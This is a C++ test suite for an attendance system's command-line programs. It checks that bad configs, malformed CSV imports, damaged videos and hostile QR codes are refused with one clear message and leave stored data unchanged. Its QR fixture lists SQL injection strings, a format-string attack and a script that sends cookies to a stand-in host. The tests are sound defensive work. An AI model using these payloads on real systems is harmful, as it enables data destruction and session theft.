// What bad input gets from the programs themselves: one clear message, the exit status that says whose fault
// it is, and nothing that was stored before is changed.
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <qrencode.h>
#include <SQLiteCpp/SQLiteCpp.h>

#include "device/scene.h"
#include "qr/draw.h"
#include "tests/faults/bkd.h"
#include "tests/temporary_folder.h"
#include "wire/badge.h"
#include "wire/crypto.h"
#include "wire/json.h"
#include "wire/line.h"

namespace hadir::tests {
namespace {

using std::string_literals::operator""s;

constexpr int kUsage = 2;

// One line that begins with the program's name and says all of `words`.
void expect_one_message(const Finished& finished, int status, std::string_view program,
                        const std::vector<std::string>& words) {
    EXPECT_EQ(finished.status, status) << finished.output;
    EXPECT_TRUE(finished.output.starts_with(fmt::format("{}: ", program))) << finished.output;
    EXPECT_EQ(std::ranges::count(finished.output, '\n'), 1) << finished.output;
    for (const std::string& word : words)
        EXPECT_TRUE(finished.output.contains(word)) << word << " is missing: " << finished.output;
    for (const char c : finished.output)
        EXPECT_TRUE(static_cast<unsigned char>(c) >= 0x20 || c == '\n') << finished.output;
    fmt::print("{} {}", finished.status, finished.output);
}

TEST(BadConfig, StopsEveryProgramWithThePlaceAndTheWord) {
    const TemporaryFolder folder;
    const auto file = folder / "bad.conf";
    struct Case {
        const char* text;
        std::vector<std::string> words;
    };
    const std::vector<Case> cases{{"# fine\ncamra = 0\n", {"bad.conf: line 2", "camra"}},
                                  {"\n\nport = eight\n", {"bad.conf: line 3", "port"}},
                                  {"port\n", {"bad.conf: line 1"}},
                                  {"\xff\xfe\x00\x01", {"bad.conf"}}};
    for (const Case& bad : cases) {
        write_text(file, bad.text);
        const auto data = folder / "data";
        for (const char* program : {"hadir-kiosk", "hadir-sync", "hadir-central"}) {
            const Finished refused = run({program, "--config", file.string(), "--data", data.string()});
            expect_one_message(refused, kUsage, program, bad.words);
            EXPECT_FALSE(std::filesystem::exists(data)) << program;
        }
    }
}

TEST(BadPeople, AreRefusedWithTheLineAndChangeNothing) {
    const TemporaryFolder folder;
    Bkd bkd(folder.path());
    const auto made = bkd.set_up(3);
    ASSERT_TRUE(made) << made.error().message;
    const auto people = [&] {
        std::filesystem::remove(folder / "now.csv");
        EXPECT_EQ(bkd.central({"people", "export", (folder / "now.csv").string()}).status, 0);
        return text_of(folder / "now.csv");
    };
    const std::string before = people();
    ASSERT_EQ(std::ranges::count(before, '\n'), 4);

    const std::string head = "nip,nama,opd,unit,kantor\n";
    const std::string good = "198001012000011500,Siti,PUPR,Bina Marga,Pusat\n";
    struct Case {
        const char* what;
        std::string csv;
        std::vector<std::string> words;
    };
    const std::vector<Case> cases{
        {"nothing", "", {}},
        {"no people", head, {"no people"}},
        {"another column", "nip,name,opd,unit,kantor\n" + good, {"line 1"}},
        {"a column too few", "nip,nama,opd,unit\n198001012000011500,Siti,PUPR,Bina Marga\n", {"line 1"}},
        {"semicolons",
         "nip;nama;opd;unit;kantor\n198001012000011500;Siti;PUPR;Bina Marga;Pusat\n",
         {"line 1"}},
        {"a field too many", head + good + "198001012000011501,Budi,PUPR,Bina Marga,Pusat,x\n", {"line 3"}},
        {"the same NIP twice",
         head + good + "198001012000011500,Budi,PUPR,Bina Marga,Pusat\n",
         {"line 3", "line 2"}},
        {"17 digits", head + "19800101200001150,Siti,PUPR,Bina Marga,Pusat\n", {"line 2", "18 digits"}},
        {"a letter",
         head + good + "19800101200001150O,Budi,PUPR,Bina Marga,Pusat\n",
         {"line 3", "18 digits"}},
        {"spaces in the NIP",
         head + "19800101 200001 1 500,Siti,PUPR,Bina Marga,Pusat\n",
         {"line 2", "18 digits"}},
        {"a spreadsheet's number",
         head + "1.98001E+17,Siti,PUPR,Bina Marga,Pusat\n",
         {"line 2", "18 digits"}},
        {"Latin-1", head + "198001012000011500,Jos\xe9,PUPR,Bina Marga,Pusat\n", {"UTF-8"}},
        {"UTF-16", "\xff\xfen\0i\0p\0"s, {"UTF-8"}},
        {"a zero byte", head + "198001012000011500,Si\0ti,PUPR,Bina Marga,Pusat\n"s, {"line 2"}},
        {"an open quote", head + "198001012000011500,\"Siti,PUPR,Bina Marga,Pusat\n", {"line 2"}},
        {"an empty name", head + "198001012000011500,,PUPR,Bina Marga,Pusat\n", {"line 2", "nama"}},
        {"a name of 2,000 bytes",
         head + "198001012000011500," + std::string(2000, 'a') + ",PUPR,x,Pusat\n",
         {"line 2"}},
    };
    const auto file = folder / "bad.csv";
    for (const Case& bad : cases) {
        SCOPED_TRACE(bad.what);
        write_text(file, bad.csv);
        std::vector<std::string> words = bad.words;
        words.push_back("bad.csv");
        for (const char* mode : {"--dry-run=no", "--dry-run"})
            expect_one_message(bkd.central({"people", "import", file.string(), mode}), kUsage,
                               "hadir-central", words);
        EXPECT_EQ(people(), before);
    }
}

TEST(BadRules, AreToldTogetherWithFileAndLine) {
    const TemporaryFolder folder;
    const auto rules = folder / "rules";
    std::filesystem::copy(std::string(HADIR_SOURCE_DIR) + "/config/rules", rules);
    const auto check = [&] { return run({"hadir-central", "rules", "check", rules.string()}); };
    const Finished good = check();
    EXPECT_EQ(good.status, 0) << good.output;
    EXPECT_TRUE(good.output.contains("conversion.csv: 2\n")) << good.output;
    EXPECT_EQ(run({"hadir-central", "rules", "check"}).output, good.output) << "the installed ones";

    write_text(rules / "conversion.csv",
               "regime,minutes,valid_from,valid_to,source,confidence\n"
               "PP94,x,2021-08-31,,law,read\n");
    write_text(rules / "ramadan.csv", "year\n");
    const Finished refused = check();
    EXPECT_EQ(refused.status, kUsage);
    EXPECT_EQ(
        refused.output,
        fmt::format("hadir-central: 2 faults in {}\n"
                    "ramadan.csv: line 1: the first line must be year,valid_from,valid_to,source,confidence\n"
                    "conversion.csv: line 2: minutes is not a whole number from 1 to 1440: x\n",
                    rules.string()));
    expect_one_message(run({"hadir-central", "rules", "check", (folder / "nowhere").string()}), kUsage,
                       "hadir-central", {"nowhere", "schedules.csv"});
    expect_one_message(run({"hadir-central", "rules"}), kUsage, "hadir-central", {"rules check"});
}

// People of Bkd::set_up.
constexpr const char* kLoop =
    "nip,jenis,jabatan,jenjang,opd,unit,kantor,atasan,dari,sampai\n"
    "198001012000011000,PNS,Analis,PELAKSANA,PUPR,Jalan,Pusat,198001012000011001,2026-01-01,\n"
    "198001012000011001,PNS,Analis,PELAKSANA,PUPR,Jalan,Pusat,198001012000011000,2026-01-01,\n";
constexpr const char* kUnknownPlan =
    "opd,unit,kantor,nip,rencana,dari,sampai\n,,,,BTN-5,2026-01-01,2026-06-30\n,,,,BTN-9,2026-07-01,\n";

TEST(BadTables, AreRefusedWithFileAndLine) {
    const TemporaryFolder folder;
    Bkd bkd(folder.path());
    ASSERT_TRUE(bkd.set_up(2));
    const auto file = folder / "bad.csv";
    const auto words_of = [&](const char* table, std::vector<std::string> more) {
        std::vector<std::string> words{table, "import", file.string()};
        words.insert(words.end(), more.begin(), more.end());
        return words;
    };
    write_text(file, kLoop);
    expect_one_message(bkd.central(words_of("posts", {"--dry-run"})), kUsage, "hadir-central",
                       {"bad.csv: line 2", "198001012000011001"});
    expect_one_message(bkd.central(words_of("posts", {})), kUsage, "hadir-central", {"--by"});
    write_text(file, kUnknownPlan);
    expect_one_message(bkd.central(words_of("plans", {"--dry-run"})), kUsage, "hadir-central",
                       {"bad.csv: line 3", "BTN-9"});
}

TEST(BadServe, RefusesToExposeADemo) {
    const TemporaryFolder folder;
    Bkd bkd(folder.path());
    ASSERT_TRUE(bkd.set_up(1));
    expect_one_message(bkd.central({"serve", "--demo", "--expose", "--web-port", "0", "--devices-port", "0"}),
                       kUsage, "hadir-central", {"demo"});
    expect_one_message(bkd.central({"serve", "--expose", "--web-port", "0", "--devices-port", "0"}), kUsage,
                       "hadir-central", {"web-certificate"});
}

// One card, held for less than a second; answers the file's bytes.
std::string render_video(const std::filesystem::path& file) {
    const auto code = qr::encode("HADIR");
    if (!code) throw std::runtime_error(code.error().message);
    device::SceneOptions options;
    options.frames_held = 20;
    device::Scene scene({{*code, "Siti", "PUPR"}}, options);
    if (auto ok = device::write_video(scene, file); !ok) throw std::runtime_error(ok.error().message);
    return text_of(file);
}

TEST(BadVideo, IsSaidAndEndsWithOne) {
    const TemporaryFolder folder;
    const std::string whole = render_video(folder / "whole.avi");
    ASSERT_EQ(run({"hadir", "read", "--video", (folder / "whole.avi").string()}).status, 0);

    std::string noise = whole;
    for (std::size_t at = 20'000; at < noise.size(); at += 997)
        noise[at] = static_cast<char>(noise[at] ^ 0x55);
    write_text(folder / "noise.avi", noise);
    write_text(folder / "half.avi", whole.substr(0, whole.size() / 2));
    write_text(folder / "head.avi", whole.substr(0, 2000));
    write_text(folder / "text.txt", "nip,nama\n");
    write_text(folder / "empty.avi", "");
    for (const char* name : {"noise.avi", "half.avi", "head.avi", "text.txt", "empty.avi", "missing.avi"}) {
        const auto file = (folder / name).string();
        Finished refused = run({"hadir", "read", "--json", "--video", file});
        // What could be read of it comes first.
        const std::size_t last = refused.output.find("hadir read: ");
        ASSERT_NE(last, std::string::npos) << name << ": " << refused.output;
        fmt::print("{} frames, then: ",
                   std::count(refused.output.begin(),
                              refused.output.begin() + static_cast<std::ptrdiff_t>(last), '\n'));
        refused.output.erase(0, last);
        expect_one_message(refused, 1, "hadir read", {name});
    }
    for (const char* name : {"text.txt", "half.avi", "empty.avi", "missing.png"})
        expect_one_message(run({"hadir", "read", "--json", (folder / name).string()}), 1, "hadir read",
                           {name});
}

// FFmpeg finds the pictures of a file whose head is gone: none is lost, so that nothing is refused.
TEST(BadVideo, IsReadWholeWithoutItsHead) {
    const TemporaryFolder folder;
    std::string video = render_video(folder / "whole.avi");
    const Finished all = run({"hadir", "read", "--json", "--video", (folder / "whole.avi").string()});
    video.replace(0, 64, std::string(64, '\0'));
    write_text(folder / "headless.avi", video);
    const Finished read = run({"hadir", "read", "--json", "--video", (folder / "headless.avi").string()});
    EXPECT_EQ(read.status, 0) << read.output;
    EXPECT_EQ(std::ranges::count(read.output, '\n'), std::ranges::count(all.output, '\n'));
}

// Any bytes as a QR picture, as a hostile phone shows them.
std::string picture_of(const std::string& bytes) {
    QRcode* made = QRcode_encodeData(static_cast<int>(bytes.size()),
                                     reinterpret_cast<const unsigned char*>(bytes.data()), 0, QR_ECLEVEL_L);
    if (made == nullptr) throw std::runtime_error("too long for a QR");
    qr::QrCode code{made->version, made->width, {}};
    for (int i = 0; i < made->width * made->width; ++i)
        code.dark.push_back((made->data[i] & 1) != 0);
    QRcode_free(made);
    const auto png = qr::to_png(code, std::max(3, 600 / code.size));
    if (!png) throw std::runtime_error(png.error().message);
    return std::string(as_text(*png));
}

struct Hostile {
    const char* what;
    std::string text;
    const char* code;
};

std::vector<Hostile> hostile_texts() {
    const auto stranger = wire::write_badge({7, BadgeId{}, parse_day("2030-01-01").value_or(LocalDay{})},
                                            wire::SigningKey::generate());
    std::string all_bytes;
    for (int i = 0; i < 256; ++i)
        all_bytes.push_back(static_cast<char>(i));
    return {{"SQL", "'; DROP TABLE records; --", "BUKAN_LENCANA"},
            {"SQL behind a badge's start", "HADIR:1:'); DELETE FROM records;--", "BUKAN_LENCANA"},
            {"a script", "<script>fetch('http://x.example/'+document.cookie)</script>", "BUKAN_LENCANA"},
            {"JSON", R"("}],"seq":1,"kind":"checkin","body":{"badge":"00)", "BUKAN_LENCANA"},
            {"a format", "%s%s%n{}{0}{:>99999999}", "BUKAN_LENCANA"},
            {"lines and tabs", "a\tb\nc\r\nd", "BUKAN_LENCANA"},
            {"2,900 letters", std::string(2900, 'a'), "BUKAN_LENCANA"},
            {"a long HADIR:1:", "HADIR:1:" + std::string(2500, 'A'), "BUKAN_LENCANA"},
            {"every byte", all_bytes, "BUKAN_LENCANA"},
            {"bytes that are no UTF-8", "\xff\xfe\xc0\xaf\xed\xa0\x80\xf8", "BUKAN_LENCANA"},
            {"zero bytes", "HADIR:1:\0\0\0\0"s, "BUKAN_LENCANA"},
            {"a stranger's key", *stranger, "TANDA_TANGAN_SALAH"},
            {"a badge and a space", *stranger + " ", "BUKAN_LENCANA"},
            {"an enrolment code", "HADIR:E:1:ABC", "BUKAN_LENCANA"}};
}

TEST(HostileQr, LeavesARefusedRecordWithOnlyItsDigest) {
    const TemporaryFolder folder;
    Bkd bkd(folder.path());
    for (const auto& done : {bkd.set_up(1), bkd.start_central(), bkd.enrol()})
        ASSERT_TRUE(done) << done.error().message;
    const auto hostile = hostile_texts();
    auto pictures = bkd.photograph(1);
    ASSERT_TRUE(pictures) << pictures.error().message;
    for (std::size_t i = 0; i < hostile.size(); ++i)
        write_text(*pictures / fmt::format("2-{:02}.png", i), picture_of(hostile[i].text));
    const auto heard = bkd.play(*pictures);
    ASSERT_TRUE(heard) << heard.error().message;
    EXPECT_EQ(heard->announced.size(), 1U) << "the one true badge";

    // The ledger: the boot, the files in force, one check-in, and of each hostile text code, count and
    // digest.
    std::map<std::string, std::string> refused;  // digest -> code
    const SQLite::Database sql(bkd.ledger().string());
    SQLite::Statement select(sql, "SELECT line FROM records ORDER BY inc, seq");
    std::string all;
    int rows = 0;
    while (select.executeStep()) {
        const auto line = wire::parse_line(select.getColumn(0).getString());
        ASSERT_TRUE(line) << line.error().message;
        all += select.getColumn(0).getString();
        ++rows;
        if (line->head.kind != "refused") continue;
        ASSERT_EQ(line->body.object()->size(), 3U) << "only code, count and payload";
        refused[*line->body.find("payload")->text()] = *line->body.find("code")->text();
    }
    EXPECT_EQ(refused.size(), hostile.size());
    for (const Hostile& one : hostile) {
        const auto found = refused.find(wire::sha256(as_bytes(one.text)).hex());
        fmt::print("{:<28} {:>5} bytes -> {}\n", one.what, one.text.size(),
                   found == refused.end() ? "refused, by the digest of its UTF-8 reading" : found->second);
        if (found != refused.end()) {
            EXPECT_EQ(found->second, one.code) << one.what;
        }
        EXPECT_FALSE(all.contains(one.text.substr(0, 20))) << one.what;
        for (const std::string& event : heard->events)
            EXPECT_FALSE(event.contains(one.text.substr(0, 20))) << one.what;
    }

    const auto own = bkd.identity();
    const Finished verified =
        run({"hadir-verify", bkd.ledger().string(), "--pub", own->ledger_key.public_key().hex()});
    EXPECT_EQ(verified.status, 0) << verified.output;
    EXPECT_TRUE(verified.output.starts_with(fmt::format("OK {} records", rows))) << verified.output;
    EXPECT_EQ(bkd.sync({"send"}).status, 0);
    const auto exported = bkd.exported();
    ASSERT_TRUE(exported) << exported.error().message;
    EXPECT_EQ(run({"hadir-verify", exported->string(), "--pub", own->ledger_key.public_key().hex()}).output,
              verified.output);
    fmt::print("{}", verified.output);
}

}  // namespace
}  // namespace hadir::tests
